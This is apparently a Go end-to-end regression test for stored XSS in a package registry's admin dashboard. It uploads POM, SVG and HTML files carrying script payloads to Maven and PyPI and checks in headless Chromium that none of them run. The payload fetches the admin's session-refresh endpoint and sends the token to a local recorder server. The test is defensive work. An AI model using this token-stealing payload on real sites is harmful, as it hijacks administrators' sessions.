package adminui_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"entrepot/deploy/testkit"
)

// TestE2EHostileContent is the regression test of stored XSS on the
// dashboard's origin (issue 16, finding 1): a member of an organization
// deploys a POM carrying an XHTML <h:script>, an SVG and an HTML file to
// Maven and uploads an HTML file to PyPI, the Maven mirror serves a
// hostile POM from its upstream, and headless Chromium, signed in to the
// dashboard as the admin, opens each of them on the dashboard's origin
// (web/e2e/hostile.e2e.mjs). No script may run: the page title stays,
// and the recorder, which every payload calls, hears nothing. A control
// page with the same payload, served without Entrepot's headers, must
// run, so that the test cannot pass by not looking.
func TestE2EHostileContent(t *testing.T) {
	node := testkit.RequireTool(t, "node")
	chromium := testkit.RequireTool(t, "chromium")
	pw := filepath.Join(testCache(), "ui-e2e", "node_modules", "playwright-core")
	if _, err := os.Stat(filepath.Join(pw, "index.mjs")); err != nil {
		if os.Getenv("ENTREPOT_TEST_REQUIRE_CLIENTS") != "" {
			t.Fatalf("playwright-core is not installed in %s: deploy/testenv/clients/ui.sh should have installed it", pw)
		}
		t.Skipf("playwright-core is not installed in %s; `make test` (deploy/testenv/clients/ui.sh) installs it", pw)
	}

	var (
		mu    sync.Mutex
		heard []string
	)
	var script string
	recorder := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte("<html><body><script>" + strings.ReplaceAll(script, "WHERE", "control") + "</script></body></html>"))
			return
		}
		if strings.HasPrefix(r.URL.Path, "/ran/") || strings.HasPrefix(r.URL.Path, "/token/") {
			mu.Lock()
			heard = append(heard, r.URL.RequestURI())
			mu.Unlock()
		}
	}))
	// The payload: mark the page, call the recorder, and try what the
	// probe's script did, refresh the admin's session through the cookie.
	// It is written before the recorder starts serving it.
	rec := "http://" + recorder.Listener.Addr().String()
	script = "document.title='pwned';window.__pwned=true;new Image().src='" + rec + "/ran/WHERE';" +
		"fetch('/api/v1/auth/refresh',{method:'POST',credentials:'include'}).then(function(r){return r.text()})" +
		".then(function(b){new Image().src='" + rec + "/token/WHERE?'+encodeURIComponent(b)})"
	recorder.Start()
	t.Cleanup(recorder.Close)
	payload := func(where string) string { return strings.ReplaceAll(script, "WHERE", where) }
	pom := func(group, where string) []byte {
		return []byte(`<?xml version="1.0"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:h="http://www.w3.org/1999/xhtml">
  <modelVersion>4.0.0</modelVersion>
  <groupId>` + group + `</groupId><artifactId>evil</artifactId><version>1.0</version>
  <h:script>` + payload(where) + `</h:script>
</project>`)
	}

	up := testkit.NewUpstream(t)
	up.Handle("/com/mirror/evil/1.0/evil-1.0.pom", pom("com.mirror", "mirrored-pom"), func(r *testkit.Route) { r.ContentType = "application/xhtml+xml" })
	s := testkit.Start(t, "UPSTREAM_MAVEN="+up.URL+"/")
	token := s.Token(t, s.OrgMember(t, "acme", "alice", "alice-password-1", "admin"), []string{"maven", "pypi"}, nil, nil)
	auth := testkit.Basic("alice", token)

	var urls []string
	put := func(path string, body []byte) {
		resp, b := testkit.Request(t, "PUT", s.URL+path, body, "Authorization", auth)
		switch {
		case resp.StatusCode == 201:
			urls = append(urls, path)
		case strings.HasSuffix(path, ".pom"):
			t.Fatalf("deploy %s: %d %s", path, resp.StatusCode, b)
		default: // refused at the door is safe too
			t.Logf("deploy %s refused: %d %s", path, resp.StatusCode, b)
		}
	}
	put("/maven2/com/acme/evil/1.0/evil-1.0.pom", pom("com.acme", "hosted-pom"))
	put("/maven2/com/acme/evil/1.0/evil-1.0.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="`+strings.ReplaceAll(payload("svg-onload"), "'", "&apos;")+`"><script>`+payload("svg")+`</script></svg>`))
	put("/maven2/com/acme/evil/1.0/evil-1.0.html", []byte(`<html><body><script>`+payload("maven-html")+`</script></body></html>`))
	urls = append(urls, "/maven2/com/mirror/evil/1.0/evil-1.0.pom", "/maven2/com/acme/evil/maven-metadata.xml")

	html := []byte(`<html><body><script>` + payload("pypi-html") + `</script></body></html>`)
	if st, msg := pypiUpload(t, s, auth, "evil-html", "1.0", "evil_html-1.0.tar.gz", html); st == 200 {
		urls = append(urls, "/pypi/files/evil-html/evil_html-1.0.tar.gz", "/pypi/simple/evil-html/")
	} else {
		t.Logf("PyPI refused the HTML upload: %s", msg)
	}

	work := t.TempDir()
	list, _ := json.Marshal(urls)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, node, filepath.Join("web", "e2e", "hostile.e2e.mjs"))
	cmd.Env = append(os.Environ(),
		"BASE_URL="+s.URL,
		"ADMIN_PASSWORD="+testkit.AdminPassword,
		"PLAYWRIGHT_CORE="+pw,
		"CHROMIUM="+chromium,
		"WORK_DIR="+work,
		"URLS="+string(list),
		"CONTROL_URL="+recorder.URL+"/control",
		"HTTP_USER=alice",
		"HTTP_PASSWORD="+token,
	)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	t.Logf("hostile content e2e output:\n%s", out.String())
	if err != nil {
		t.Fatalf("hostile content e2e: %v\nserver log:\n%s", err, tail(s.Log(), 4000))
	}
	mu.Lock()
	defer mu.Unlock()
	for _, h := range heard {
		if !strings.HasSuffix(strings.SplitN(h, "?", 2)[0], "/control") {
			t.Errorf("a hostile script ran and called the recorder: %s", h)
		}
	}
	if len(heard) == 0 {
		t.Error("the control page's script did not call the recorder: the test would not see an execution")
	}
}

// pypiUpload sends one file as twine does, declaring it text/html, and
// returns the status and a description of the answer.
func pypiUpload(t *testing.T, s *testkit.Server, auth, name, version, filename string, content []byte) (int, string) {
	t.Helper()
	sum := sha256.Sum256(content)
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	for k, v := range map[string]string{
		":action": "file_upload", "protocol_version": "1", "metadata_version": "2.1",
		"name": name, "version": version, "filetype": "sdist", "pyversion": "source",
		"sha256_digest": hex.EncodeToString(sum[:]),
	} {
		mw.WriteField(k, v)
	}
	pw, _ := mw.CreatePart(map[string][]string{
		"Content-Disposition": {`form-data; name="content"; filename="` + filename + `"`},
		"Content-Type":        {"text/html"},
	})
	pw.Write(content)
	mw.Close()
	resp, b := testkit.Request(t, "POST", s.URL+"/pypi/", body.Bytes(), "Content-Type", mw.FormDataContentType(), "Authorization", auth)
	return resp.StatusCode, resp.Status + " " + string(b)
}
